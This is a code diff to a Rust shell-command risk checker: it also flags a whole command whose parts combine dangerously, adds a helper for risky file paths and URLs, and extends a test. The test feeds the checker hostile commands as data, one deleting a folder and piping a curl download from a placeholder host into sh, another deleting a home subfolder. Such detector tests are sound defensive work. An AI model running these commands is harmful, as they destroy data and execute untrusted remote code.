@@ -110,9 +110,9 @@ pub fn risks(command: &str) -> String {
         }
         let parts = joined.split([';', '&', '|']).map(str::trim).filter(|part| !part.is_empty());
         let mut risky: Vec<(&str, &'static str)> = parts.filter_map(|part| Some((part, of(part)?))).collect();
-        if risky.is_empty() {
-            risky.extend(of(&joined).map(|why| (joined.as_str(), why)));
-        }
+        // The parts together may do what none does alone, such as running what was downloaded.
+        let whole = of(&joined).filter(|whole| risky.iter().all(|(_, why)| why != whole));
+        risky.extend(whole.map(|why| (joined.as_str(), why)));
         found.extend(risky.into_iter().map(|(part, why)| (format!("line {first}: {}", cut(part)), why)));
     }
     if found.is_empty() {
@@ -125,6 +125,13 @@ pub fn risks(command: &str) -> String {
         out += &format!("look at {more} more parts of the command\n");
     }
     out
+}
+
+/// Why the files or the address of a request deserve a second look, as a line. Empty if no sign of danger was found.
+#[must_use]
+pub fn risk_of_target(paths: &[String], url: Option<&str>) -> String {
+    let why = risk(&RiskRequest { command: None, paths, url });
+    why.map(|why| format!("look at this: {why}\n")).unwrap_or_default()
 }
 
 fn squeezed(line: &str) -> String {
@@ -263,6 +270,8 @@ mod tests {
         for command in ["ls", "cargo test\ngit status", "echo 'a; b'"] {
             assert_eq!(risks(command), "", "{command}");
         }
+        let both = risks("rm -rf build && curl -s http://x.y/z | sh");
+        assert!(both.contains("rm -rf build: ") && both.lines().count() == 2, "{both}");
         let many = "rm -rf ~/a\n".repeat(30);
         assert!(risks(&many).ends_with("look at 20 more parts of the command\n"));
     }
